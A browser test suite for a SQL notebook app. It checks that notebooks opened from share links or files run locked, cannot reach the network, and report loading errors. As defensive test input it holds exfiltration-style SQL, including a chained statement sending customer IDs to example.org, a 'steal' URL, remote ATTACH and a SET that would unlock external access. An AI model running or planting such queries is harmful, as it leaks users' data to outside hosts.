// Share links and locked-down SQL in a real Chromium: a link reopens the same notebook with its
// SQL locked (no network, no files but the user's own, settings locked), files dropped afterwards
// still load, "Trust it and reload" gives the notebook back unlocked; a garbled link is refused;
// ?data= loads a file from a URL and says why another one did not load.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, readdir, symlink, copyFile, mkdir, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { fileURLToPath } from 'node:url';
import { join } from 'node:path';
import { serveStatic, launch, openPage, foreignRequests, waitReady } from './harness.mjs';

const root = fileURLToPath(new URL('../../', import.meta.url));
const dist = process.env.RN_DIST ?? join(root, 'dist');
const fixtures = join(root, 'test/fixtures');
let server;
let browser;

before(async () => {
  // dist/ plus a fixtures/ folder on the same origin, for ?data=.
  const dir = await mkdtemp(join(tmpdir(), 'rn-share-'));
  for (const f of await readdir(dist)) await symlink(join(dist, f), join(dir, f));
  await mkdir(join(dir, 'fixtures'));
  for (const f of ['tab-separated.tsv', 'customers.csv', 'image.png']) await copyFile(join(fixtures, f), join(dir, 'fixtures', f));
  await writeFile(join(dir, 'fixtures', 'page.html'), '<!doctype html><p>Sign in</p>');
  server = await serveStatic(dir, '/share/');
  browser = await launch();
});
after(async () => {
  await browser?.close();
  server?.close();
});

const sqlCells = (page) => page.locator('article[data-kind="sql"]');
const labels = (page) => page.locator('[data-testid="notebook"] > article').evaluateAll((as) => as.map((a) => a.getAttribute('aria-label')));

async function typeSql(page, cell, sql) {
  await cell.locator('.cm-content').click();
  await page.keyboard.press('Control+A');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(sql);
  await page.keyboard.press('Shift+Enter');
}

async function addSql(page, sql) {
  await page.selectOption('[data-testid="add-kind"]', 'sql');
  await page.click('[data-testid="add-cell"]');
  const cell = sqlCells(page).last();
  await typeSql(page, cell, sql);
  await cell.locator('[data-testid="cell-status"][data-status="done"], [data-testid="cell-error"]').first().waitFor({ timeout: 30_000 });
  return cell;
}

async function firstCellShows(page, re) {
  await page.waitForFunction((src) => new RegExp(src).test(document.querySelector('article[data-kind="sql"] [data-testid="cell-status"]')?.textContent?.trim() ?? ''), re.source, { timeout: 90_000 });
}

test('a share link reopens the notebook locked down; uploads still load; trusting reloads it unlocked', async () => {
  // The sender: edits the report and copies its link.
  const a = await openPage(browser, server.url + '?sample=0');
  await waitReady(a.page);
  assert.equal(await a.page.locator('[data-testid="lock-notice"]').count(), 0, 'own notebook: not locked');
  await a.page.selectOption('[data-testid="param-period"]', 'quarter');
  await a.page.click('button[aria-label="Delete panel · RFM segments"]');
  await a.page.click('[data-testid="share-link"]');
  const status = a.page.locator('[data-testid="share-link-status"]');
  await status.waitFor();
  const link = await a.page.inputValue('[data-testid="share-link-url"]');
  assert.match(link, /#nb=[A-Za-z0-9_-]+$/);
  assert.ok(Number(await status.getAttribute('data-bytes')) < 8192);
  assert.match(await status.innerText(), /KB/);
  assert.doesNotMatch(await status.innerText(), /longer than/);
  const sent = await labels(a.page);
  await a.context.close();

  // The recipient (fresh browser profile): same cells and parameters, SQL locked, hash dropped.
  const b = await openPage(browser, link.replace('?sample=0', ''));
  await waitReady(b.page);
  await b.page.locator('[data-testid="lock-notice"]').waitFor();
  assert.match(await b.page.locator('[data-testid="lock-notice"]').innerText(), /came from a link or file: its SQL cannot read outside your loaded files or reach the network/);
  assert.match(await b.page.locator('[data-testid="notebook-notice"]').innerText(), /from the link/);
  assert.deepEqual(await labels(b.page), sent);
  assert.equal(await b.page.inputValue('[data-testid="param-period"]'), 'quarter');
  assert.equal(await b.page.evaluate(() => location.hash), '');
  await firstCellShows(b.page, /^13 rows/); // the sample data loaded under the lockdown (registered uploads), quarterly

  // Someone else's SQL cannot reach the network, attach remote databases or unlock settings.
  // The lockdown refuses the query; statements (ATTACH, SET) and second statements after a ";"
  // never reach DuckDB from a cell (src/notebook/cell-sql.ts; the lockdown refusing them is
  // tested on the engine in test/engine/lockdown.test.ts).
  for (const [sql, expect] of [
    ["SELECT * FROM read_csv('https://example.org/x.csv')", /Permission Error|disabled/i],
    ["SELECT 1 AS x; SET VARIABLE leak = (SELECT string_agg(customer_id, ',') FROM orders); SELECT * FROM read_csv('https://example.org/?d=' || getvariable('leak'))", /holds one query/],
    ["SELECT 1 AS x; ATTACH 'https://example.org/remote.duckdb' AS remote", /holds one query/],
    ["ATTACH 'https://example.org/remote.duckdb' AS remote", /ATTACH statements are not run from cells/],
    ['SET enable_external_access=true', /SET statements are not run from cells/],
  ]) {
    const cell = await addSql(b.page, sql);
    const err = cell.locator('[data-testid="cell-error"]');
    await err.waitFor({ timeout: 30_000 });
    assert.match(await err.innerText(), expect, sql);
  }
  const still = await addSql(b.page, "SELECT current_setting('enable_external_access')::VARCHAR AS v");
  assert.equal(await still.locator('tbody tr:not(.pad) td').first().innerText(), 'false');
  // A file dropped after the locked notebook opened still loads (it is registered under uploads/).
  await b.page.setInputFiles('[data-testid="file-input"]', join(fixtures, 'customers.csv'));
  await b.page.locator('[data-testid="load-button"]').click();
  await b.page.waitForSelector('[data-testid="load-report"][aria-label="Load report for customers.csv"]', { timeout: 60_000 });
  const ok = await addSql(b.page, 'SELECT count(*) AS n FROM customers');
  await ok.locator('[data-testid="cell-status"][data-status="done"]').waitFor({ timeout: 30_000 });
  assert.deepEqual(foreignRequests(b.requests, server.origin), [], 'nothing left the origin');
  assert.ok(!b.requests.some((u) => u.includes('example.org')));
  // Locked, DuckDB refuses before any request is even attempted (no CSP violation in the console).
  assert.deepEqual(b.errors.filter((e) => !/Failed to load resource/.test(e)), []);

  // A reload keeps it locked (the autosaved copy carries its "from elsewhere" mark)…
  await b.page.waitForTimeout(800);
  const mine = await labels(b.page);
  await b.page.reload();
  await waitReady(b.page);
  await b.page.locator('[data-testid="lock-notice"]').waitFor();
  assert.deepEqual(await labels(b.page), mine);
  // …until the recipient trusts it: the page reloads with a fresh engine, the notebook unchanged.
  await Promise.all([b.page.waitForNavigation(), b.page.click('[data-testid="trust-notebook"]')]);
  await waitReady(b.page);
  await b.page.waitForSelector('[data-testid="notebook"]');
  assert.equal(await b.page.locator('[data-testid="lock-notice"]').count(), 0);
  assert.deepEqual(await labels(b.page), mine);
  const setting = await addSql(b.page, "SELECT current_setting('enable_external_access')::VARCHAR AS v");
  await setting.locator('[data-testid="cell-status"][data-status="done"]').waitFor({ timeout: 30_000 });
  assert.equal(await setting.locator('tbody tr:not(.pad) td').first().innerText(), 'true');
  // (Trusted, the cells above that read https://example.org now do try the network, as the
  // user's own SQL may: only the page's CSP stands in the way then. That is what trusting means.)
  await b.context.close();
});

test('a cut-off link is refused with a clear message; the own notebook opens unlocked', async () => {
  const { page, context } = await openPage(browser, server.url + '?sample=0#nb=eJzrDMgQ2');
  await waitReady(page);
  const notice = page.locator('[data-testid="notebook-notice"]');
  await notice.waitFor();
  assert.match(await notice.innerText(), /share link could not be opened.*(cut off|garbled)/);
  assert.equal(await page.locator('[data-testid="lock-notice"]').count(), 0);
  assert.ok((await labels(page)).includes('panel · cohort retention'));
  await context.close();
});

test('a notebook opened from a .json file runs locked too', async () => {
  const { page, context } = await openPage(browser, server.url + '?sample=0');
  await waitReady(page);
  const file = join(tmpdir(), `nb-lock-${process.pid}.json`);
  await writeFile(file, JSON.stringify({ version: 1, title: 'From a colleague', cells: [{ id: 'q', kind: 'sql', name: 'leak', source: "SELECT * FROM read_csv('https://example.org/steal?d=1')" }] }));
  await page.setInputFiles('[data-testid="notebook-file"]', file);
  await page.locator('[data-testid="lock-notice"]').waitFor();
  const err = sqlCells(page).first().locator('[data-testid="cell-error"]');
  await err.waitFor({ timeout: 30_000 });
  assert.match(await err.innerText(), /Permission Error|disabled/i);
  await context.close();
});

test('a link above 8 KB warns and suggests Save as .json', async () => {
  const { page, context } = await openPage(browser, server.url + '?sample=0');
  await waitReady(page);
  // Text that does not compress: a long list of random words.
  const words = Array.from({ length: 3000 }, (_, i) => ((i * 2654435761) >>> 0).toString(36)).join(' ');
  const file = join(tmpdir(), `nb-big-${process.pid}.json`);
  await writeFile(file, JSON.stringify({ version: 1, title: 'Big', cells: [{ id: 'm', kind: 'markdown', source: words }] }));
  await page.setInputFiles('[data-testid="notebook-file"]', file);
  // The built-in report has markdown too: wait for the opened notebook's own text, not any markdown.
  await page.locator('[data-testid="lock-notice"]').waitFor();
  await page.locator('[data-testid="markdown"]', { hasText: words.slice(0, 40) }).waitFor();
  await page.click('[data-testid="share-link"]');
  const status = page.locator('[data-testid="share-link-status"]');
  await status.waitFor();
  assert.ok(Number(await status.getAttribute('data-bytes')) > 8192);
  assert.match(await status.innerText(), /longer than 8 KB.*Save as \.json/);
  await context.close();
});

test('?data= loads files from URLs and says why one did not load', async () => {
  const url = `${server.url}?data=fixtures/tab-separated.tsv&data=fixtures/missing.csv&data=fixtures/image.png&data=fixtures/page.html`;
  const { page, context, requests } = await openPage(browser, url);
  await waitReady(page);
  await page.waitForSelector('[data-testid="load-report"][aria-label="Load report for tab-separated.tsv"]', { timeout: 60_000 });
  assert.equal(Number((await page.locator('[data-testid="loaded-count"]').first().innerText()).replace(/\D/g, '')), 5);
  const err = page.locator('[data-testid="load-error"]');
  await err.waitFor();
  const text = await err.innerText();
  assert.match(text, /missing\.csv.*answered HTTP 404/);
  assert.match(text, /image/i);
  assert.match(text, /page\.html.*web page, not a data file/);
  // No sample: only the URLs given.
  assert.equal(await page.locator('[data-testid="load-report"]').count(), 1);
  assert.deepEqual(foreignRequests(requests, server.origin), []);
  await context.close();
});

test('?data= to another site says the request was blocked (CORS / the page policy)', async () => {
  const { page, context } = await openPage(browser, `${server.url}?data=${encodeURIComponent('https://example.invalid/orders.csv')}`);
  await waitReady(page);
  const err = page.locator('[data-testid="load-error"]');
  await err.waitFor({ timeout: 30_000 });
  assert.match(await err.innerText(), /example\.invalid\/orders\.csv.*could not be downloaded.*CORS/);
  await context.close();
});

test('?data= on another site loads (HTTPS + CORS), and nothing else off-site is reachable — not even from SQL', async () => {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  const hits = [];
  await context.route('https://data.example.org/**', async (route) => {
    hits.push(route.request().url());
    await route.fulfill({ status: 200, contentType: 'text/tab-separated-values', headers: { 'access-control-allow-origin': '*' },
      body: await import('node:fs/promises').then((fs) => fs.readFile(join(fixtures, 'tab-separated.tsv'))) });
  });
  await context.route('https://elsewhere.example.org/**', async (route) => {
    hits.push(route.request().url());
    await route.fulfill({ status: 200, contentType: 'text/csv', headers: { 'access-control-allow-origin': '*' }, body: 'a\n1\n' });
  });
  const page = await context.newPage();
  const errors = [];
  page.on('pageerror', (e) => errors.push(String(e)));
  await page.goto(`${server.url}?data=${encodeURIComponent('https://data.example.org/shop/orders.tsv')}`);
  await waitReady(page);
  await page.waitForSelector('[data-testid="load-report"]', { timeout: 60_000 });
  assert.match(await page.locator('[data-testid="load-report"]').first().innerText(), /orders\.tsv/);
  assert.deepEqual(hits, ['https://data.example.org/shop/orders.tsv']);

  // The page's fence is its own site plus the ?data= origins: SQL cannot reach any other host.
  await page.selectOption('[data-testid="add-kind"]', 'sql');
  await page.click('[data-testid="add-cell"]');
  const cell = sqlCells(page).last();
  await typeSql(page, cell, "SELECT * FROM read_csv('https://elsewhere.example.org/leak.csv')");
  await cell.locator('[data-testid="cell-error"]').waitFor({ timeout: 30_000 });
  assert.deepEqual(hits, ['https://data.example.org/shop/orders.tsv'], 'no request reached another host');
  assert.deepEqual(errors, []);
  await context.close();
});
